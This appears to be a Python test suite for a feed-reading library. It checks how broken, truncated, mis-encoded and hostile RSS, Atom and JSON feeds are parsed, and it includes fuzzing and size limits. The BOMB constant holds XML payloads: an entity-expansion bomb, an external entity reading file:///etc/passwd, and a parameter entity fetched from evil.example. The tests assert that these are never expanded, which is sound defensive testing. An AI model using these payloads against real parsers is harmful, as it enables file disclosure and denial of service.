"""Feeds that are broken, cut off, wrongly encoded or hostile."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rilo_reader.entry import Feed
from rilo_reader.errors import NotReadableError
from rilo_reader.parsers import read_feed
from rilo_reader.parsers.elements import TOO_MANY
from rilo_reader.parsers.tree import ENTRIES_LIMIT
from rilo_reader.text import clean_text, safe_url
from tests.support.examples import examples
from tests.support.for_each import for_each

URL = "https://news.example/feed.xml"
ITEM = (
    "<item><title>T{0}</title><guid>{0}</guid><link>https://news.example/{0}</link>"
    "<description><![CDATA[<p>text {0}</p>]]></description></item>"
)
HEAD = '<?xml version="1.0"?>\n<rss version="2.0"><channel><title>News</title>\n'
TAIL = "</channel></rss>"
WHOLE = HEAD + "".join(map(ITEM.format, range(5))) + TAIL


def titles(text: str | bytes, content_type: str = "") -> list[str]:
    """The titles that are read of a feed."""
    data = text.encode() if isinstance(text, str) else text
    return [entry.title for entry in read_feed(data, URL, content_type).entries]


ALL = ["T0", "T1", "T2", "T3", "T4"]


@for_each(
    "old, new, expected",
    [
        ("</rss>", "", ALL),
        ("</channel></rss>", "", ALL),
        ("</item><item><title>T2", "<item><title>T2", ALL),
        ("</title><guid>2", "<guid>2", ALL),
        ("</guid><link>https://news.example/2", "<link>https://news.example/2", ALL),
        ("<guid>2", "<b><i><guid>2", ALL),
        ("<title>T2</title>", "<title>T2</title></channel></div>", ALL),
        ("<title>T2</title>", "<title>T2</title><!-- no end", ALL),
        ("T2</title>", "T2\x00\x0b\x1b</title>", ALL),
        ("T2</title>", "T2]]></title>", ["T0", "T1", "T2]]>", "T3", "T4"]),
        ("<title>T2", "<title>A & B < T2", ["T0", "T1", "A & B < T2", "T3", "T4"]),
        ("<link>https://news.example/2", '<link a="b" a="c>https://news.example/2', ALL),
        ("<p>text 2</p>]]>", "<p>text 2</p>", ALL),
        ("</rss>", "</rss><p>an advertisement", ALL),
    ],
)
def test_one_fault_costs_no_other_entry(old: str, new: str, expected: list[str]) -> None:
    assert old in WHOLE
    assert titles(WHOLE.replace(old, new, 1)) == expected


def test_faults_are_reported() -> None:
    feed = read_feed(WHOLE.replace("</title><guid>2", "<guid>2").encode(), URL)
    assert feed.faults == (
        "It is not well-formed XML (line 3: mismatched tag); the part before that is read.",
    )
    assert read_feed(WHOLE.encode(), URL).faults == ()


def test_markup_that_forgot_to_be_escaped_is_kept() -> None:
    text = "<p>a <b>b<br>c &nbsp; <img src='x'></p>"
    feed = read_feed(WHOLE.replace("<![CDATA[<p>text 2</p>]]>", text).encode(), URL)
    assert feed.entries[2].content == '<p>a <b>b<br>c \u00a0 <img src="x"></b></p>'
    assert titles(WHOLE.replace("<![CDATA[<p>text 2</p>]]>", text)) == ALL


ATOM_FEED = (
    "<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>1</id><title>A</title></entry></feed>"
)
JSON_FEED = '{"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1"}], "x": [1, 2]}'


@given(st.integers(0, len(WHOLE)))
@examples(150)
def test_whole_entries_before_a_cut_count_and_half_ones_do_not(cut: int) -> None:
    whole = read_feed(WHOLE.encode(), URL).entries
    try:
        found = read_feed(WHOLE[:cut].encode(), URL)
    except NotReadableError:
        assert "<rss " not in WHOLE[:cut]
        return
    assert found.entries == whole[: WHOLE[:cut].count("</item>")]
    assert found.is_cut is ("</channel>" not in WHOLE[:cut])


@for_each(
    "text, is_cut",
    [
        (ATOM_FEED, False),
        (ATOM_FEED.removesuffix("</feed>"), True),
        (ATOM_FEED.replace("<title>A", "<title><br>A", 1), False),
        (JSON_FEED, False),
        (JSON_FEED[:-9], True),
    ],
)
def test_only_what_ends_too_early_is_cut(text: str, is_cut: bool) -> None:
    feed = read_feed(text.encode(), URL)
    assert (len(feed.entries), feed.is_cut) == (1, is_cut)


def encoded(encoding: str, declared: str = "", title: str = "Zażółć žluťoučký") -> bytes:
    """A feed in an encoding, that says it or another."""
    declaration = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    text = f"{declaration}<rss><channel><item><title>{title}</title></item></channel></rss>"
    return text.encode(encoding)


JAPANESE = "税関は、ひらがなとカタカナのある文章で、象牙を押収したことを発表しました。"
KOREAN = "세관은 컨테이너에서 상아를 발견하고 세 사람을 체포했다고 발표했다."
RUSSIAN = "Правительство объявило о новых мерах по поддержке экономики и таможни."


@for_each("data, content_type, title", [
        (encoded("utf-8"), "", "Zażółć žluťoučký"),
        (encoded("utf-8-sig"), "", "Zażółć žluťoučký"),
        (encoded("utf-8", "iso-8859-1"), "text/xml; charset=us-ascii", "Zażółć žluťoučký"),
        (encoded("utf-8", "utf-16"), "", "Zażółć žluťoučký"),
        (encoded("utf-16"), "", "Zażółć žluťoučký"),
        (encoded("utf-16-le"), "", "Zażółć žluťoučký"),
        (encoded("utf-16-be", "utf-16"), "", "Zażółć žluťoučký"),
        (encoded("utf-32"), "", "Zażółć žluťoučký"),
        (encoded("utf-32-be", "utf-32"), "", "Zażółć žluťoučký"),
        (encoded("cp037", "cp037", "Good"), "", "Good"),
        (encoded("iso-8859-2", "iso-8859-2", "Zażółć"), "", "Zażółć"),
        (encoded("iso-8859-2", "", "Zażółć"), 'text/xml; charset="ISO-8859-2"', "Zażółć"),
        (encoded("iso-8859-2", "iso-8859-2", "Zażółć"), "text/xml; charset=utf-8", "Zażółć"),
        (encoded("cp1252", "iso-8859-1", "it’s – café"), "", "it’s – café"),
        (encoded("cp1252", "", "it’s café"), "", "it’s café"),
        (encoded("cp1252", "utf-8", "it’s café"), "", "it’s café"),
        (encoded("cp1252", "no-such", "café"), "text/xml; charset=", "café"),
        (encoded("gb18030", "gb2312", "海关查获象牙"), "", "海关查获象牙"),
        (encoded("shift_jis", "", JAPANESE), "", JAPANESE),
        (encoded("euc-kr", "", KOREAN), "", KOREAN),
        (encoded("koi8-r", "", RUSSIAN), "", RUSSIAN),
        (encoded("iso-2022-jp", "iso-2022-jp", "税関"), "", "税関"),
        (encoded("utf-8", "", "naïve – @").replace(b"@", b"caf\xe9"), "", "naïve – café"),
        (encoded("utf-8", "iso-8859-1", "naïve – @").replace(b"@", b"caf\xe9"), "", "naïve – café"),
        (encoded("cp1252", "iso-8859-1", "Ã¤ is how café, naïve, é look"), "",
         "Ã¤ is how café, naïve, é look"),
        (encoded("latin-1", "iso-8859-1", "it\x92s"), "", "it’s"),
        (encoded("utf-8", "", "it\x92s &#146;"), "", "it’s ’"),
    ])  # fmt: skip
def test_encodings(data: bytes, content_type: str, title: str) -> None:
    assert titles(data, content_type) == [title]


BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">'
    '<!ENTITY f SYSTEM "file:///etc/passwd">'
    "<!ENTITY % p SYSTEM 'https://evil.example/x.dtd'> %p;]>"
)


def test_entities_are_never_expanded_or_fetched() -> None:
    text = BOMB + "<rss><channel><item><title>&a; &b; &f; &eacute;</title></item></channel></rss>"
    assert titles(text) == ["&a; &b; &f; é"]


@pytest.mark.slow
def test_depth_and_size_are_bounded() -> None:
    deep = "<a>" * 100_000 + "x" + "</a>" * 100_000
    assert titles(f"{HEAD}<item><title>{deep}</title></item>{TAIL}") == ["x"]
    assert titles(HEAD + "<item><b>" * 5_000) == [""]
    wide = "x" * 3_000_000
    assert titles(f"{HEAD}<item a='{wide}'><title>T</title></item>{TAIL}") == ["T"]


@pytest.mark.slow
def test_what_comes_first_of_a_feed_that_is_too_large_is_read() -> None:
    text = HEAD + ITEM.format(0) + "<item/>" * ENTRIES_LIMIT + TAIL
    feed = read_feed(text.encode(), URL)
    assert [entry.title for entry in feed.entries] == ["T0", ""]
    assert feed.omission == TOO_MANY


def test_long_texts_are_cut_where_they_are_lines() -> None:
    text = HEAD + f"<item><title>{'a' * 9000}</title><guid>{'g' * 9000}</guid></item>" + TAIL
    (entry,) = read_feed(text.encode(), URL).entries
    assert len(entry.title) == 500
    assert len(entry.key) == 2000


def assert_clean(feed: Feed) -> None:
    """Every string is cleaned and every address safe."""
    texts = [feed.title, feed.lang]
    addresses = [feed.url, feed.feed_url]
    for entry in feed.entries:
        texts += [entry.key, entry.title, entry.lang, entry.summary, entry.content]
        texts += [*entry.authors, *entry.tags, *(file.type for file in entry.enclosures)]
        addresses += [
            entry.url,
            entry.base,
            entry.comments,
            *(file.url for file in entry.enclosures),
        ]
        assert entry.date is None or entry.date.tzinfo is not None
        for line in (entry.title, entry.summary, *entry.authors, *entry.tags):
            assert "\n" not in line
    assert texts == [clean_text(text) for text in texts]
    assert all(address == "" or safe_url(address) == address for address in addresses)


PIECES = st.sampled_from([
    "<rss>", "<channel>", "<item>", "</item>", "<item ", "</channel>", "</rss>", "<title>",
    "</title>", "<link>", "</link>", "<guid>", "<pubDate>", "</pubDate>", "<description>",
    "</description>", "<![CDATA[", "]]>", "<!--", "-->", "<?x", "?>",
    "<feed xmlns='http://www.w3.org/2005/Atom'>", "<entry>", "</entry>", "<content type='xhtml'>",
    "<content type='html'>", "</content>", "<link ", "href='x'", 'rel="', "/>", ">", "<", "&",
    "&amp;", "&nbsp;", "&#0;", "&#x9b;31m", "&#xd800;", "\x1b[31m", "\u202e",
    "https://a.example/", "javascript:x", "Thu, 07 Mar 2019 10:00:00 GMT",
    "2019-03-07T10:00:00+99:99", "xml:base='//'", "xmlns:a='b'", "<a:b>",
    "<media:content url='x'/>", "<dc:date>", "<author>", "a@b (c)", " ", "\n", "x",
])  # fmt: skip


@pytest.mark.slow
@given(st.lists(PIECES, max_size=40).map("".join))
@examples(400)
def test_any_pieces_give_a_clean_feed_or_a_reason(text: str) -> None:
    for start in ("<rss><channel><item>", "<feed xmlns='http://www.w3.org/2005/Atom'><entry>", ""):
        try:
            assert_clean(read_feed((start + text).encode(errors="surrogatepass"), URL))
        except NotReadableError as error:
            assert error.reason


KEYS = st.sampled_from([
    "id", "url", "title", "content_html", "content_text", "date_published", "date_modified", "tags",
    "authors", "author", "attachments", "summary", "image", "language", "external_url", "items",
])  # fmt: skip
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(KEYS, inner, max_size=3),
    max_leaves=6,
)
ITEMS = st.lists(st.dictionaries(KEYS, JSON, max_size=6), max_size=3)


@given(st.dictionaries(KEYS, JSON, max_size=4), ITEMS)
@examples(80)
def test_any_json_gives_a_clean_feed_or_a_reason(head: dict[str, object], items: object) -> None:
    whole = {**head, "version": "https://jsonfeed.org/version/1.1", "items": items}
    assert_clean(read_feed(json.dumps(whole).encode(), URL))


@given(st.binary(max_size=300), st.text(max_size=20), st.text(max_size=20))
@examples(300)
def test_any_bytes_give_a_clean_feed_or_a_reason(data: bytes, url: str, content_type: str) -> None:
    json_feed = b'{"version": "https://jsonfeed.org/version/1",'
    for start in (b"", b"<rss><channel><item><title>", json_feed):
        try:
            assert_clean(read_feed(start + data, url, f"text/xml; charset={content_type}"))
        except NotReadableError as error:
            assert error.reason


@pytest.mark.slow
def test_millions_of_signs_that_begin_no_tag_are_passed_over() -> None:
    signs = "<" * 10_000_000
    began = time.process_time()
    feed = read_feed(WHOLE.replace("<p>text 2</p>", signs).encode(), URL)
    # Trying each name of an element at each sign took 6.5 s.
    assert time.process_time() - began < 4
    assert any(entry.content == signs for entry in feed.entries)


@for_each(
    "before, behind",
    [
        ("<html><body>", "</body></html>"),
        ("<!DOCTYPE html>\n<html><head><title>x</title></head>\n<body>\n", "\n</body>\n</html>\n"),
        ("<body>", "</body>"),
    ],
)
def test_a_feed_in_the_frame_of_a_page_is_read(before: str, behind: str) -> None:
    entries = "<entry><content>One.</content></entry><entry><summary>Two.</summary></entry>"
    text = f'{before}<feed xmlns="http://www.w3.org/2005/Atom">{entries}</feed>{behind}'
    feed = read_feed(text.encode(), "https://a.example/feed")
    assert [entry.content or entry.summary for entry in feed.entries] == ["One.", "Two."]
    assert [(entry.title, entry.url, entry.key) for entry in feed.entries] == [("", "", "")] * 2
